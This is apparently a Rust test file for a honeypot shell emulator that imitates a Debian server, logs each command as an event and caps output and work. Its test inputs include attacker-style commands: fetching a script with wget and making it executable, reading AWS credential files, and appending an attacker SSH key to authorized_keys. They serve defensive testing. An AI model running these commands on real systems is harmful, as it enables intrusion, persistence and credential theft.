use proptest::prelude::*;

use super::*;

fn shell(user: &str) -> Shell {
    Shell::new(
        HostInfo {
            hostname: "SRV-WEB-42".into(),
            distro: "debian".into(),
            kernel: "6.1.0-27-amd64".into(),
            ip: "10.0.0.5".into(),
        },
        user,
    )
}

#[test]
fn prompt_and_navigation() {
    let mut sh = shell("root");
    assert_eq!(sh.prompt(), "root@SRV-WEB-42:~# ");
    assert_eq!(sh.run("pwd").text, "/root\n");
    assert_eq!(sh.run("cd /var/www/html").text, "");
    assert_eq!(sh.prompt(), "root@SRV-WEB-42:/var/www/html# ");
    assert_eq!(
        sh.run("cd /nope").text,
        "-bash: cd: /nope: No such file or directory\n"
    );
    assert_eq!(sh.run("cd").text, "");
    assert_eq!(sh.run("pwd").text, "/root\n");
}

#[test]
fn common_commands_look_real() {
    let mut sh = shell("root");
    assert_eq!(
        sh.run("id").text,
        "uid=0(root) gid=0(root) groups=0(root)\n"
    );
    assert_eq!(sh.run("whoami").text, "root\n");
    assert!(
        sh.run("uname -a")
            .text
            .starts_with("Linux SRV-WEB-42 6.1.0-27-amd64 #1 SMP")
    );
    assert!(sh.run("ls -la").text.contains(".bash_history"));
    assert!(
        sh.run("cat /etc/passwd")
            .text
            .starts_with("root:x:0:0:root:/root:/bin/bash\n")
    );
    assert_eq!(
        sh.run("cat /etc/os-release | grep PRETTY").text,
        "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n"
    );
    assert_eq!(sh.run("cat /etc/passwd | wc -l").text, "9\n");
    assert_eq!(sh.run("foo").text, "-bash: foo: command not found\n");
    assert!(sh.run("history").text.contains("    1  id\n"));
}

#[test]
fn every_command_is_an_event_and_fetches_are_recorded() {
    let mut sh = shell("root");
    let out = sh.run("cd /tmp; wget http://203.0.113.9/x.sh && chmod +x x.sh");
    assert_eq!(out.events[0].kind, "command");
    assert_eq!(
        out.events[0].field("cmd"),
        Some("cd /tmp; wget http://203.0.113.9/x.sh && chmod +x x.sh")
    );
    let fetch = out.events.iter().find(|e| e.kind == "url_fetch").unwrap();
    assert_eq!(fetch.field("url"), Some("http://203.0.113.9/x.sh"));
    assert!(out.text.contains("Temporary failure in name resolution"));
    let out = sh.run("cat ~/.aws/credentials");
    assert!(out.text.contains("aws_access_key_id = AKIA"));
    assert!(out.events.iter().any(|e| e.kind == "file_read"));
}

#[test]
fn redirection_writes_the_overlay() {
    let mut sh = shell("root");
    sh.run("echo 'ssh-rsa AAAA attacker' >> /root/.ssh/authorized_keys");
    assert!(
        sh.run("cat /root/.ssh/authorized_keys")
            .text
            .ends_with("ssh-rsa AAAA attacker\n")
    );
    sh.run("echo hi > /tmp/a");
    assert_eq!(sh.run("cat /tmp/a").text, "hi\n");
    assert_eq!(
        sh.run("echo x > /nope/a").text,
        "-bash: /nope/a: No such file or directory\n"
    );
}

#[test]
fn exit_ends_the_session() {
    let mut sh = shell("deploy");
    assert!(sh.prompt().ends_with("$ "));
    assert!(sh.run("exit").exit);
}

proptest! {
    #[test]
    fn never_panics(line in ".{0,200}") {
        let mut sh = shell("root");
        let out = sh.run(&line);
        prop_assert!(out.text.len() <= MAX_OUTPUT);
    }
}

/// `cat` of one large file many times over builds at most a bounded text, shown cut to the
/// output cap (it once built the whole concatenation first: gigabytes from one line).
#[test]
fn cat_of_a_large_file_many_times_stays_bounded() {
    let mut sh = shell("root");
    let chunk = "x".repeat(4000);
    sh.run(&format!("echo {chunk} > a"));
    let many_a = vec!["a"; 1000].join(" ");
    sh.run(&format!("cat {many_a} > b"));
    let many_b = vec!["b"; 2000].join(" ");
    let started = std::time::Instant::now();
    let out = sh.run(&format!("cat {many_b}"));
    assert!(out.text.len() <= MAX_OUTPUT);
    assert!(out.text.len() > MAX_OUTPUT / 2, "the file is there to show");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
}

/// `sudo` repeated across a whole line runs the command once, without a frame per `sudo`.
#[test]
fn many_sudos_run_the_command() {
    let mut sh = shell("admin");
    let line = format!("{}id", "sudo ".repeat(800));
    let out = std::thread::Builder::new()
        .stack_size(256 * 1024)
        .spawn(move || sh.run(&line).text)
        .unwrap()
        .join()
        .unwrap();
    assert!(out.starts_with("uid=1000(admin)"), "{out}");
}

/// One line's commands and filters produce a bounded number of bytes between them: past it
/// the line stops as on a box out of memory (each `cat big big` and each filter stage copied
/// the text again).
#[test]
fn one_line_does_a_bounded_amount_of_work() {
    let mut sh = shell("root");
    assert!(sh.fs_mut().write("/root/big", vec![b'x'; 2 << 20], false));
    let mut line = "cat big big".to_owned();
    while line.len() < 4000 {
        line.push_str("|x");
    }
    sh.run(&line);
    assert!(sh.work <= MAX_LINE_WORK + MAX_BUILT, "{}", sh.work);
    let line = "cat big big > /tmp/c;".repeat(180);
    let out = sh.run(&line);
    assert!(sh.work <= MAX_LINE_WORK + MAX_BUILT, "{}", sh.work);
    assert!(
        out.text.ends_with("-bash: fork: Cannot allocate memory\n"),
        "{}",
        out.text
    );
    // The next line starts afresh.
    assert_eq!(sh.run("cat big | wc").text, "1\n");
}
